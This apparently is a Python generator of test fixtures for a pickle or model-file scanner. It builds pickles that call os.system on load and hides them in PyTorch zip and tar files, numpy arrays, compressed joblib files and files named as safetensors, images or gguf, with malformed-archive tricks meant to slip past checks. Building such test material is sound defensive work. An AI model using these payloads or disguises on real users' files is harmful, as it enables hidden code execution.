"""Harmful pickles in every wrapping that loaders open."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import warnings
import zipfile
import zlib

from assembler import *  # noqa: F403

PAYLOAD = proto(2) + SYSTEM + STOP
HARMLESS = proto(2) + EMPTY_DICT + STOP
DATE = (1980, 1, 1, 0, 0, 0)
MAGIC = proto(2) + b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19" + STOP
VERSION = proto(2) + b"M\xe9\x03" + STOP
SYSTEM_INFO = proto(2) + value({"little_endian": True, "protocol_version": 1001,
                                "type_sizes": {"int": 4, "long": 4, "short": 2}}) + STOP
NO_KEYS = proto(2) + EMPTY_LIST + STOP


def zip_of(members, compression=zipfile.ZIP_STORED, prefix=b""):
    """A zip of (name, bytes) in order; the same name may come twice."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", compression) as archive:
        warnings.simplefilter("ignore")  # names that come twice are meant
        for member, data in members:
            info = zipfile.ZipInfo(member, DATE)
            info.compress_type = compression
            archive.writestr(info, data)
    return prefix + out.getvalue()


def torch_zip(pickle, extra=(), root="archive", **options):
    members = [(f"{root}/data.pkl", pickle), (f"{root}/byteorder", b"little"),
               *extra, (f"{root}/version", b"3\n")]
    return zip_of(members, **options)


def tar_of(members, kind=""):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=f"w:{kind}", format=tarfile.USTAR_FORMAT) as archive:
        for member, data in members:
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def legacy(obj=HARMLESS, magic=MAGIC, version=VERSION, info=SYSTEM_INFO, keys=NO_KEYS):
    return magic + version + info + obj + keys


def npy(pickle, version=(1, 0), shape="(1,)"):
    header = f"{{'descr': '|O', 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    size = struct.pack("<H" if version[0] == 1 else "<I", len(header))
    return b"\x93NUMPY" + bytes(version) + size + header + pickle


def zips():
    yield "zip_data_pkl.pt", "torch zip", torch_zip(PAYLOAD)
    yield "zip_protocol4.pt", "torch zip, protocol 4", torch_zip(
        proto(4) + frame(call4("os", "system", [COMMAND]) + STOP))
    yield "zip_deflated.pt", "torch zip, compressed", torch_zip(
        PAYLOAD, compression=zipfile.ZIP_DEFLATED)
    yield "zip_bzip2.pt", "torch zip, bzip2", torch_zip(PAYLOAD, compression=zipfile.ZIP_BZIP2)
    yield "zip_lzma.pt", "torch zip, lzma", torch_zip(PAYLOAD, compression=zipfile.ZIP_LZMA)
    yield "zip_broken_tail.pt", "torch zip, payload then a fault", torch_zip(
        proto(2) + SYSTEM + b"\xff")
    yield "zip_two_streams.pt", "torch zip, second pickle", torch_zip(HARMLESS + PAYLOAD)
    yield "zip_other_root.pt", "torch zip, other root", torch_zip(PAYLOAD, root="my model")
    yield "zip_twice.pt", "data.pkl comes twice, the second harmful", torch_zip(
        HARMLESS, extra=[("archive/data.pkl", PAYLOAD)])
    yield "zip_twice_reverse.pt", "data.pkl comes twice, the first harmful", torch_zip(
        PAYLOAD, extra=[("archive/data.pkl", HARMLESS)])
    yield "zip_extra_pickle.pt", "another pickle beside data.pkl", torch_zip(
        HARMLESS, extra=[("archive/extra.pkl", PAYLOAD)])
    yield "zip_storage_pickle.pt", "a storage that is a pickle", torch_zip(
        HARMLESS, extra=[("archive/data/0", PAYLOAD)])
    yield "zip_text_pickle.pt", "a pickle called readme.txt", torch_zip(
        HARMLESS, extra=[("archive/readme.txt", PAYLOAD)])
    yield "zip_constants.pt", "TorchScript constants", torch_zip(
        HARMLESS, extra=[("archive/constants.pkl", PAYLOAD)])
    yield "zip_nested.pt", "a zip inside the zip", torch_zip(
        HARMLESS, extra=[("archive/inner.zip", torch_zip(PAYLOAD))])
    yield "zip_prefix.pt", "junk before the zip", torch_zip(PAYLOAD, prefix=b"junk" * 16)
    yield "zip_pickle_prefix.pt", "a pickle before the zip", torch_zip(HARMLESS, prefix=PAYLOAD)
    yield "zip_plain.zip", "a plain zip with a pickle", zip_of([("model.pkl", PAYLOAD)])
    yield "zip_plain_text.zip", "a plain zip with a pickle called .txt", zip_of(
        [("notes.txt", PAYLOAD)])
    for extension in ("bin", "pth", "ckpt", "txt", "jpg", "safetensors", "npz", "gguf", ""):
        stem = f"zip_as_{extension or 'nothing'}"
        yield f"{stem}.{extension}".rstrip("."), f"torch zip called .{extension}", torch_zip(PAYLOAD)
    whole = bytearray(torch_zip(PAYLOAD))
    whole[14:18] = b"\xde\xad\xbe\xef"
    yield "zip_bad_crc.pt", "a wrong CRC in the local header", bytes(whole)
    whole = bytearray(torch_zip(PAYLOAD))
    whole[6] |= 1
    yield "zip_encrypted_flag.pt", "the local header says encrypted", bytes(whole)
    whole = torch_zip(PAYLOAD)
    yield "zip_no_directory.pt", "the central directory is cut off", whole[:whole.index(b"PK\1\2")]
    whole = torch_zip(PAYLOAD)
    at = whole.rindex(b"archive/data.pkl")
    yield "zip_names_differ.pt", "local and central names differ", (
        whole[:at] + b"archive/data.pk_" + whole[at + 16:])


def legacies():
    yield "legacy_object.pt", "legacy: the object", legacy(PAYLOAD)
    yield "legacy_info.pt", "legacy: the system info", legacy(info=PAYLOAD)
    yield "legacy_version.pt", "legacy: the version", legacy(version=PAYLOAD)
    yield "legacy_keys.pt", "legacy: the keys", legacy(keys=PAYLOAD)
    yield "legacy_trailing.pt", "legacy: a pickle behind the storages", legacy() + PAYLOAD
    yield "legacy_broken.pt", "legacy: payload then a fault", (
        MAGIC + VERSION + SYSTEM_INFO + proto(2) + SYSTEM + b"\xff")
    yield "legacy_truncated.pt", "legacy: cut off behind the payload", (
        MAGIC + VERSION + SYSTEM_INFO + PAYLOAD)
    yield "legacy_as_bin.bin", "legacy called .bin", legacy(PAYLOAD)
    yield "legacy_magic_only.pt", "the magic, then a payload", MAGIC + PAYLOAD
    members = [("sys_info", SYSTEM_INFO), ("pickle", PAYLOAD), ("storages", NO_KEYS),
               ("tensors", NO_KEYS)]
    yield "tar_pickle.pt", "torch tar: the object", tar_of(members)
    yield "tar_storages.pt", "torch tar: the storages", tar_of(
        [("sys_info", SYSTEM_INFO), ("pickle", HARMLESS), ("storages", PAYLOAD),
         ("tensors", NO_KEYS)])
    yield "tar_info.pt", "torch tar: the system info", tar_of(
        [("sys_info", PAYLOAD), ("pickle", HARMLESS), ("storages", NO_KEYS), ("tensors", NO_KEYS)])
    yield "tar_plain.tar", "a plain tar with a pickle", tar_of([("model.pkl", PAYLOAD)])
    yield "tar_gz.tar.gz", "a compressed tar with a pickle", gzip.compress(
        tar_of([("model.pkl", PAYLOAD)]), mtime=0)


def arrays():
    yield "object.npy", "npy of objects", npy(PAYLOAD)
    yield "object_v2.npy", "npy version 2", npy(PAYLOAD, (2, 0))
    yield "object_scalar.npy", "npy of one object", npy(PAYLOAD, shape="()")
    yield "object_broken.npy", "npy: payload then a fault", npy(proto(2) + SYSTEM + b"\xff")
    yield "object_second.npy", "npy: a second pickle", npy(HARMLESS + PAYLOAD)
    yield "object.npz", "npz of objects", zip_of([("arr_0.npy", npy(PAYLOAD))])
    yield "object_deflated.npz", "npz, compressed", zip_of(
        [("arr_0.npy", npy(PAYLOAD))], zipfile.ZIP_DEFLATED)
    yield "pickle_in.npz", "npz with a pickle beside", zip_of(
        [("arr_0.npy", npy(HARMLESS)), ("x.npy", PAYLOAD)])
    yield "pickle_as.npy", "a pickle called .npy", PAYLOAD


def compressed():
    yield "joblib.gz", "gzip, as joblib reads it", gzip.compress(PAYLOAD, mtime=0)
    yield "joblib.bz2", "bzip2", bz2.compress(PAYLOAD)
    yield "joblib.xz", "xz", lzma.compress(PAYLOAD)
    yield "joblib.lzma", "lzma", lzma.compress(PAYLOAD, lzma.FORMAT_ALONE)
    yield "joblib.z", "zlib", zlib.compress(PAYLOAD)


def extensions():
    for extension in ("bin", "pt", "pth", "ckpt", "txt", "json", "safetensors", "jpg", "gguf",
                      "h5", "onnx", "dat", "joblib", "model"):
        yield f"pickle_as.{extension}", f"a pickle called .{extension}", PAYLOAD
        yield f"text_pickle_as.{extension}", f"a text pickle called .{extension}", (
            name("os", "system") + MARK + string0(COMMAND) + TUPLE + REDUCE + STOP)


def harmful():
    """Yields (name, what, bytes)."""
    for part in (zips, legacies, arrays, compressed, extensions):
        yield from part()
